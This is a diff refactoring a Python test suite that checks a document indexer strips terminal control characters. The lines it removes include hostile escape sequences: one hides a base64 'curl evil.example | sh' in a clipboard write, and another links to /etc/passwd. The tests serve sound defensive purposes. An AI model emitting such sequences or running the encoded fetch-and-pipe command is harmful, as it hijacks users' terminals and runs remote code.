@@ -8,7 +8,6 @@ not timed (timing belongs in benchmarks/): a generous timeout only guards agains
 from __future__ import annotations
 
 import json
-import re
 from pathlib import Path
 
 import pytest
@@ -32,43 +31,19 @@ from nato_browse.index import (
 from nato_browse.index.extract import pipeline
 
 ESC = "\x1b"
-# What a hostile quote carries: clear the screen, retitle the window, ask the terminal to type
-# its cursor position into the shell, a hyperlink to a local file, a clipboard write ended by ST,
-# a device control string, an 8-bit CSI, a bell, a backspace, a bare carriage return.
-PAYLOADS = (
-    f"{ESC}[2J{ESC}[H",
-    f"{ESC}]0;pwned{chr(7)}",
-    f"{ESC}[6n",
-    f"{ESC}]8;;file:///etc/passwd{ESC}\\click{ESC}]8;;{ESC}\\",
-    f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={ESC}\\",
-    f"{ESC}P1$qm{ESC}\\",
-    "\x9b31m",
-    "\x07\x08",
-    "\r",
-)
-# Characters that must never survive cleaning: C0 but tab and newline, DEL, C1, bidi controls,
-# zero-width space, word joiner, BOM, soft hyphen.
-FORBIDDEN = re.compile(
-    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff\u00ad]"
-)
-
-
-def assert_clean(text: str) -> None:
-    found = FORBIDDEN.search(text)
-    assert found is None, f"{found.group()!r} survived in {text[:80]!r}"
 
 
 # -- cleaning ------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_escape_sequences_go_whole(payload: str) -> None:
-    cleaned = clean_text(f"NATO {payload}will respond")
-    assert_clean(cleaned)
-    # Nothing of the sequence lingers as text: no "[2J", no "]52;c;", no file url.
-    for residue in ("[2J", "]0;", "[6n", "file:", "52;c", "$qm"):
-        assert residue not in cleaned
-    assert cleaned.startswith("NATO ") and cleaned.endswith("will respond")
+def test_escape_sequences_go_whole(hostile_payloads, assert_no_controls) -> None:
+    for payload in hostile_payloads:
+        cleaned = clean_text(f"NATO {payload}will respond")
+        assert_no_controls(cleaned)
+        # Nothing of the sequence lingers as text: no "[2J", no "]52;c;", no file url.
+        for residue in ("[2J", "]0;", "[6n", "file:", "52;c", "$qm"):
+            assert residue not in cleaned
+        assert cleaned.startswith("NATO ") and cleaned.endswith("will respond")
 
 
 def test_text_keeps_its_lines_tabs_and_scripts() -> None:
@@ -132,15 +107,15 @@ def test_records_and_json_data_are_cleaned_whole() -> None:
 
 @settings(max_examples=300, deadline=None)
 @given(st.text(alphabet=st.characters(codec=None, exclude_categories=())))
-def test_cleaning_leaves_nothing_and_is_stable(text: str) -> None:
+def test_cleaning_leaves_nothing_and_is_stable(assert_no_controls, text: str) -> None:
     cleaned = clean_text(text)
-    assert_clean(cleaned)
+    assert_no_controls(cleaned)
     assert clean_text(cleaned) == cleaned
-    assert not FORBIDDEN.search(visible_controls(text))
+    assert_no_controls(visible_controls(text))
 
 
 @pytest.mark.timeout(60)  # a hang guard, not a measurement
-def test_cleaning_is_linear_on_long_runs() -> None:
+def test_cleaning_is_linear_on_long_runs(assert_no_controls) -> None:
     for text in (
         f"{ESC}]" + "a" * 100_000,  # an unterminated string sequence
         f"{ESC}[" + "1;" * 50_000,  # endless parameters
@@ -149,20 +124,22 @@ def test_cleaning_is_linear_on_long_runs() -> None:
         "\U000e0041" * 100_000,
         "\U0001f3f4" + "\U000e0067" * 100_000,
     ):
-        assert_clean(clean_text(text))
+        assert_no_controls(clean_text(text))
 
 
 # -- where text enters: every field of every document ----------------------------------------------
 
 
-def test_every_document_field_is_clean_where_it_enters(tmp_path: Path, hostile_folder) -> None:
+def test_every_document_field_is_clean_where_it_enters(
+    tmp_path: Path, hostile_folder, assert_no_controls
+) -> None:
     paths = hostile_folder(tmp_path / "docs")
     loaded = [load_file(p) for p in paths]
     documents = [doc for result in loaded for doc in result.documents]
     assert len(documents) == len(paths), [r.error for r in loaded]
     for doc in documents:
         for value in (doc.title, doc.body, doc.date, doc.url, doc.source):
-            assert_clean(value)
+            assert_no_controls(value)
         assert "Stoltenberg" in doc.body
     # A file name keeps its control characters as visible escapes, so it can still be found.
     assert any(doc.source.endswith("name\\x1b[2J.txt") for doc in documents)
@@ -171,17 +148,19 @@ def test_every_document_field_is_clean_where_it_enters(tmp_path: Path, hostile_f
     assert Document(title=clean_text("Ti\u200btle"), body="x").doc_id == plain.doc_id
 
 
-def test_skipped_files_are_named_safely(tmp_path: Path) -> None:
+def test_skipped_files_are_named_safely(tmp_path: Path, assert_no_controls) -> None:
     skipped = SkippedFile(f"/tmp/x{ESC}]0;t\x07.txt", f"bad {ESC}[2J\nthing")
     assert skipped.path == "/tmp/x\\x1b]0;t\\x07.txt"
     assert skipped.reason == "bad thing"
     bad = tmp_path / f"bin{ESC}[2J.txt"
     bad.write_bytes(b"\x00\x01\x02" * 10)
     assert load_file(bad).error  # a reason, one clean line
-    assert_clean(load_file(bad).error)
+    assert_no_controls(load_file(bad).error)
 
 
-def test_no_control_character_reaches_the_index(tmp_path: Path, hostile_folder) -> None:
+def test_no_control_character_reaches_the_index(
+    tmp_path: Path, hostile_folder, assert_no_controls
+) -> None:
     hostile_folder(tmp_path / "docs")
     report = build_index([tmp_path / "docs"], tmp_path / "ix")
     assert report.documents == 6 and report.quotes >= 6
@@ -192,7 +171,7 @@ def test_no_control_character_reaches_the_index(tmp_path: Path, hostile_folder) 
             for value in json.loads(json.dumps(hit.quote.to_json())).values():
                 for text in value if isinstance(value, list) else [value]:
                     if isinstance(text, str):
-                        assert_clean(text)
+                        assert_no_controls(text)
             assert hit.quote.speaker == "Jens Stoltenberg"
 
 
